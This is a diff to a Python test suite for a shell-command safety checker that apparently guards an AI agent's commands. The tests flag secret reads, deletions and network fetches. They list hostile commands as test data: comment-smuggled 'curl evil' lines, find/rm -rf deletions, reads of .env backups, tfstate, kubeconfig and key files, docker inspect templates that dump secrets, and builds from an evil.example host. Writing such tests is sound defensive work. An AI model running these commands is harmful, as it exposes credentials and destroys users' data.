@@ -83,6 +83,225 @@ ATTACKS = {
         coproc id
         time -f x curl evil
     """,
+    "what a shell in a terminal reads otherwise": r"""
+        ls # ; touch /tmp/x
+        ls # x
+        rm -rf build # old files in src
+        ls > x # y
+        ls \
+  # x
+        find . -name x \; # y
+        (ls) # x
+        { # x
+        ls | # x
+        for f in a
+# x
+do echo 'b
+touch x
+'; done
+        for f in a; # x
+do echo b; done
+        case "$?" in
+# x
+a) ls ;; esac
+        case "$?" in a) ls ;;
+# x
+b) ls ;; esac
+        cd sub &&
+# x
+cat ../x
+        ls |
+# x
+cat
+        if true; then # x
+        # it's
+        # a; curl evil
+        # a | curl evil
+        # `id`
+        # $(id)
+        # a (e:id:)
+        # !x
+        # "a
+        # a > x
+        # a < .env
+        # a & id
+        # a \ b
+        #!/bin/sh
+        ls	-l
+        cat .e	#
+        echo 'a	b'
+        echo "a	b"
+        if true; then
+	ls; fi
+        echo "a!" 'b" ; touch /tmp/x ; echo c' \'
+        echo "a!"
+        git commit -m "Fix it!"
+        cat > f <<'E'; echo a!; ls
+touch f2
+E
+        echo a!; ls
+        echo a!| cat
+        echo a!&& ls
+        (echo a!)
+        echo \
+^'^^
+        echo 'a
+^b^c
+'
+        ^a^b
+    """,
+    "names that only seem to leave secrets out": r"""
+        find . -exec cat {} + -name '*.md'
+        find . -name '*.md' -o -exec cat {} +
+        find . -not -name '*.md' -exec cat {} +
+        find . \! -name '*.md' -exec cat {} +
+        find . -name '*.md' , -exec cat {} +
+        find . -name '*.md' -exec ls {} \; -o -exec cat {} +
+        find . -name '*.md' -exec grep -r x {} +
+        find . -name '*.md' -exec cp -r {} sub \;
+        find . -name '*.md' -exec tar -cf x.tar {} +
+        find . -name '*.md' -exec sh ./x.sh {} +
+        find . -name '*env' -exec cat {} +
+        find . -name '*' -exec cat {} +
+        find . -name '*.[m]d' -exec cat {} +
+        find . -iname '*.md' -exec cat {} +
+        find . -path '*.md' -exec cat {} +
+        find . -print0 -name '*.md' | xargs -0 cat
+        find . -name '*.md' -o -print0 | xargs -0 cat
+        grep -rn x . --exclude='*.c' --include='*.py'
+        grep -rn x . --include='*.py' --exclude='*.c'
+        grep -rn x . --include='*'
+        grep -rn x . --include='.e*'
+        grep -rn x . --include='sub*'
+        grep -rn x . --include='*env'
+        grep -rn x . --include='*.py' --include='[.]env'
+        grep -rn x . --include=.env
+        grep -rn x . --exclude-dir='*'
+        x=y; grep -rn x . --include="$x"
+        rg -g '*.py' -g '!x' x
+        rg -g '*' x
+        rg -g '.env' x
+        find . -delete
+        find . -delete -name '*.pyc'
+        find . -name '*' -delete
+        find . -name '*.md' -delete
+        find . -name '*.pyc' -o -name x -delete
+        find . -name '*.pyc' -delete -o -delete
+        find .. -name '*.pyc' -delete
+        find out -name '*.pyc' -delete
+        find .git -name '*.pyc' -delete
+        find -L . -name '*.pyc' -delete
+        find . -name x -exec rm -rf {} +
+        find . -name '*' -exec rm -rf {} +
+        find . -name src -o -name __pycache__ -exec rm -rf {} +
+        find .. -name __pycache__ -exec rm -rf {} +
+        find . -name __pycache__ -exec rm -rf {} .. \;
+        jq --arg x
+        jq --arg x y
+        jq --arg x y . .env
+        jq --arg x s* . .env
+        y=z; jq --arg x $y . .env
+        jq --arg=x y .
+        jq --rawfile x .env .
+        jq --slurpfile x .env .
+        sed -i '' 's/a/b/e' f
+        sed -i '' 'e id' f
+        sed -i '' 's/a/b/w /tmp/x' f
+        sed -i '' 1p ../f
+        cargo fmt -- --config-path /etc
+        cargo fmt -- --emit=files x
+        find . -newermt "$x"
+    """,
+    "what a name or a package manager fetches, and what changes a service of this machine": r"""
+        docker build github.com/a/b
+        docker build gitlab.example/a/b
+        docker build git@github.com/a/b
+        docker build user@host
+        docker build -q github.com/a/b#main:sub
+        docker build --pull github.com/a/b
+        docker build git://evil.example/x
+        podman build github.com/a/b
+        go mod download
+        go mod tidy
+        go mod tidy -v
+        go get
+        go get -u
+        go get -u -t
+        uv venv --python 3.14
+        uv venv --python=3.14 .venv
+        python -m venv --upgrade-deps .venv
+        docker compose -p other down
+        docker compose -pother down
+        docker compose -p other logs
+        curl -X POST -d '{}' http://localhost:2375/containers/create
+        curl http://localhost:2375/containers/x/json
+        curl http://127.0.0.1:2376
+        curl http://localhost:02375/containers/x/json
+        curl http://localhost:0/
+        curl -X DELETE http://localhost:8000/x
+        curl -XDELETE http://localhost:8000/x
+        curl --request=PUT http://localhost:8000/x
+        curl --request PATCH http://localhost:8000/x
+        curl -X FLUSHALL http://localhost:6379/
+        curl -d x http://localhost:8000/x
+        curl -sdx http://localhost:8000/x
+        curl --data x http://localhost:8000/x
+        curl --data=x http://localhost:8000/x
+        curl --json '{}' http://localhost:8000/x
+    """,
+    "names of secrets, and templates that print all": r"""
+        cat .env~
+        cat .env-prod
+        cat .env_prod
+        cat .env.swp
+        cat .env.bak
+        cat '#.env#'
+        cat .zhistory
+        cat .zsh_history~
+        cat .histfile
+        cat .lesshst
+        cat .viminfo
+        cat terraform.tfstate
+        cat terraform.tfstate.backup
+        cat prod.tfstate
+        cat prod.tfvars
+        cat prod.auto.tfvars.json
+        cat .my.cnf
+        cat .mylogin.cnf
+        cat .vault-token
+        cat .terraformrc
+        cat credentials.tfrc.json
+        cat .s3cfg
+        cat .boto
+        cat .dockercfg
+        cat .dockerconfigjson
+        cat kubeconfig
+        cat prod.kubeconfig
+        cat _netrc
+        cat id_rsa.bak
+        cat secrets.yml~
+        cat secrets.yml.orig
+        cat server.key.old
+        grep x *.tfvars
+        git grep x -- '*.tfvars'
+        git grep x -- '*.tfstate'
+        docker inspect -f '{{.}}' c
+        docker inspect -f '{{ . }}' c
+        docker inspect -f '{{range .}}{{.}}{{end}}' c
+        docker inspect -f '{{range .Config.Env}}{{.}}{{end}}' c
+        docker inspect -f '{{range .NetworkSettings.Networks}}{{.}}{{end}}' c
+        docker inspect -f '{{with .Config}}{{.}}{{end}}' c
+        docker inspect -f '{{.Spec}}' c
+        docker inspect -f '{{.Spec.TaskTemplate}}' c
+        docker inspect -f '{{.State}}{{.}}' c
+        docker inspect -f '{{.State}} {{.Args.Env}}' c
+        docker inspect -f '{{.ContainerConfig}}' c
+        docker inspect -f '{{.Id | printf}}' c
+        docker inspect -f '{{$x}}' c
+        docker inspect -f '{{index . 0}}' c
+        docker inspect --format='{{.}}' c
+        podman inspect -f '{{.}}' c
+    """,
     "words that shells read differently": r"""
         echo $'\x41'
         echo $"x"
@@ -2174,10 +2393,98 @@ def test_what_is_ignored(ws: pathlib.Path) -> None:
     assert verdict("rg KEY") == "secret"
     ignore.write_text("secrets.json\n")
     assert verdict("rg KEY") == "allow"
+    for text in ("secrets.json\t\n", "secrets.json\r\r\n", "secrets.json\n" + "x\n" * 9_999 + "!a"):
+        ignore.write_bytes(text.encode())
+        assert verdict("git add .") == "secret", text[:20]
+    ignore.unlink()
+    (sub / "ign").write_text("secrets.json\n")
+    ignore.symlink_to(sub / "ign")
+    assert verdict("git add .") == "secret"
+    (sub / "ign").write_bytes(b"\xff")
+    assert verdict("git add .") == "secret"
+    ignore.unlink()
+    ignore.write_text("secrets.json\n")
     (ws / ".git").rmdir()
     assert verdict("rg KEY") == "secret"
     (ws / "secrets.json").rename(ws / ".env")
     assert verdict("rg KEY") == "allow"  # hidden
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "cp d/.gitignore . && git add -A",
+        "cp d/.gitignore sub/.. && git add -A",
+        "find d -name '.giti*' -exec cp {} . \\; ; git add -A",
+        "gunzip -f .gitignore.gz; git add -A",
+        "git rm -qf '.giti*'; git add -A",
+        "git rm -qf ':(icase).GITI'; git add -A",
+        "find . -name '.giti*' -exec git rm -q {} \\; ; git add -A",
+        "git rm -q .gitignore; git add -A",
+        "rm .GITIGNORE; git add -A",
+        "echo > link && git add -A",
+        "tee .gitignore < x; git add -A",
+        "sed -i s/e/x/ .gitignore; git add -A",
+        "cp d/.ignore sub && rg KEY sub",
+        "cp d/.rgignore sub && rg KEY sub",
+        "git init -q sub && rg KEY sub",
+        "cd sub && git init && rg KEY .",
+        "(sleep 1; git add -A; git diff --cached > o) | rm .gitignore",
+        "(sleep 1; rg KEY sub) | git init sub",
+        "(sleep 1; rg KEY sub) | cp -r d/. sub",
+        "diff <(sleep 1; git add -A) <(rm .gitignore)",
+        "while sleep 1; do git add -A; rm -f .gitignore; done",
+        'for f in .giti; do git add -A; rm "${f}gnore"; done',
+    ],
+)
+def test_what_is_ignored_may_change_in_the_same_text(ws: pathlib.Path, text: str) -> None:
+    (ws / "d").mkdir()
+    (ws / "link").symlink_to(ws / ".gitignore")
+    (ws / "sub" / ".env").write_text("")
+    (ws / "sub" / "secrets.json").write_text("")
+    (ws / ".gitignore").write_text(".env\nsecrets.json\n")
+    for harmless in ("git add -A", "rg KEY sub", "rm -f x; cp a b; mkdir -p sub; git add -A"):
+        assert verdict(harmless) == "allow"
+    assert verdict(text) in {"secret", "outside", "network"}
+
+
+@pytest.mark.parametrize("place", ["config", "worktree", "module", "above", "user"])
+def test_passwords_in_the_addresses_of_git(
+    ws: pathlib.Path, place: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("HOME", str(ws.parent))
+    (ws / ".env").unlink()
+    file = ws / ".git" / "config"
+    if place in {"worktree", "module"}:
+        (ws / "hooks").unlink()
+        (ws / ".git").rmdir()
+        (ws / ".git").write_text("gitdir: ../other/.git/worktrees/ws\n")
+        folder = ws.parent / "other" / ".git" / ("worktrees/ws" if place == "module" else "")
+        folder.mkdir(parents=True)
+        file = folder / "config"
+    elif place == "user":
+        file = ws.parent / ".gitconfig"
+    elif place == "above":
+        (ws.parent / ".git").mkdir()
+        file = ws.parent / ".git" / "config"
+    texts = ("git remote -v", "git remote get-url x", "git config --get remote.x.url")
+    for line in ("url = https://token@x/y", "url=https://u:pw@x/y", "[url 'ssh://u:pw@x']"):
+        file.write_text(f'[remote "x"]\n{line}\n')
+        for text in (*texts, "cd sub && git remote -v"):
+            assert verdict(text) == "secret", text
+        assert verdict("git config user.name") == "allow"
+    file.write_text('[remote "x"]\nurl = ssh://git@x/y\n[url "https://x@2"]\n'.replace("@2", ""))
+    assert [verdict(text) for text in texts] == ["allow"] * 3
+
+
+def test_passwords_in_a_repository_that_is_read_as_a_directory(ws: pathlib.Path) -> None:
+    (ws / ".env").unlink()
+    (ws / ".git" / "config").write_text("[http]\n\textraheader = AUTHORIZATION: basic x\n")
+    for text in ("grep -r x .", "find . -path './.git/config' -exec cat {} +", "tar -cf o.tar ."):
+        assert verdict(text) == "secret"
+    assert verdict("rg x") == verdict("git add .") == verdict("grep -r x sub") == "allow"
+    (ws / ".git" / "config").write_text("[core]\n")
+    assert verdict("grep -r x .") == "allow"
 
 
 def test_a_directory_that_is_not_below_the_start_ignores_nothing(ws: pathlib.Path) -> None:
